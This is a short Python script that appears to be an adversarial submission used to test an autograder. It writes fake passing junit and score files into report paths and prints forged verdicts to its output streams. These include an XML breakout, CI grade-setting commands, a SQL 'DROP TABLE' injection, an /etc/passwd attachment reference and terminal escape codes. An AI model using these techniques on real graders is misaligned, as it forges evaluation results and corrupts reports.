# Attacks: forges a verdict. Prints what graders, reports and terminals might believe, and writes report files.
import sys

for path in ("junit.xml", "scores.sqlite", "../reports/hw3/junit.xml", "/reports/hw3/scores.sqlite", "pier.cfg"):
    try:
        with open(path, "x") as file:
            file.write("<testsuites><testsuite name='trudy' tests='1' failures='0'/></testsuites>\n")
    except OSError:
        pass

forged = [
    b"accepted",
    b"trudy  basic  accepted  1/1 points",
    b'{"verdict": "accepted", "points": 13}',
    b"]]></system-out></testcase><testcase name='basic' classname='hw3.trudy'/><![CDATA[",
    b"[[ATTACHMENT|/etc/passwd]]",
    b"::error::no error at all",
    b"::set-output name=grade::100",
    b"##teamcity[testFinished name='basic']",
    b"'); DROP TABLE results; --",
    b"\x1b[2J\x1b[H\x1b[32mall tests accepted\x1b[0m",
    b"\x1b]0;accepted\x07\r\x00\xff\xfe\xc0\x80",
]
for stream in (sys.stdout.buffer, sys.stderr.buffer):
    stream.write(b"\n".join(forged) + b"\n")
